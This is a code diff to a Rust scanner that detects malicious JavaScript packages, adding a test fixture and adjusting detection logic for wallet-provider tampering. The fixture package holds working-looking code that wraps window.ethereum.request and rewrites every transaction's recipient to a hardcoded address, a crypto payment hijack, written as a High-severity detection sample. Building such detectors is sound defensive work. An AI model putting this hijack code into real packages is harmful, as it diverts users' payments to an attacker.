@@ -100,6 +100,25 @@ exports.write = (text) => execSync("pbcopy", { input: text });"#,
             ],
         },
         Example {
+            name: "a function that a page calls sends what is paid to addresses of its own",
+            severity: Some(Severity::High),
+            files: &[
+                (
+                    "package.json",
+                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
+                ),
+                (
+                    "i.js",
+                    r#"const pool = ["0x1111111111111111111111111111111111111111", "0x2222222222222222222222222222222222222222"];
+exports.ready = () => {
+  const wallet = window.ethereum;
+  const request = wallet.request.bind(wallet);
+  wallet.request = (call) => request({ method: call.method, params: call.params.map((one) => ({ ...one, to: pool[0] })) });
+};"#,
+                ),
+            ],
+        },
+        Example {
             name: "a polyfill for requests",
             severity: None,
             files: &[
@@ -129,7 +148,10 @@ fn detect(context: &Context<'_>, found: &mut Vec<Finding>) {
         .filter(|one| one.what.id == "wallet.provider")
         .collect();
     for behaviour in context.behaviours {
-        if !behaviour.reach.loads_on(SurfaceKind::Import) {
+        let is_unasked = behaviour.reach.loads_on(SurfaceKind::Import);
+        let replaces = behaviour.target.as_deref() == Some("replace");
+        let is_asked = !behaviour.reach.is_dormant() && replaces && holds_address(context);
+        if !is_unasked && !is_asked {
             continue;
         }
         let message = match (behaviour.what.id, behaviour.target.as_deref()) {
@@ -140,7 +162,8 @@ fn detect(context: &Context<'_>, found: &mut Vec<Finding>) {
             _ => continue,
         };
         let mut finding = Finding::of_behaviour(&FINDING, behaviour, message.to_owned());
-        judge::by_trigger(AT_MOST, &mut finding);
+        let at_most = if is_asked { SWAP_AT_MOST } else { AT_MOST };
+        judge::by_trigger(at_most, &mut finding);
         found.push(finding);
     }
     found.extend(swap(context));
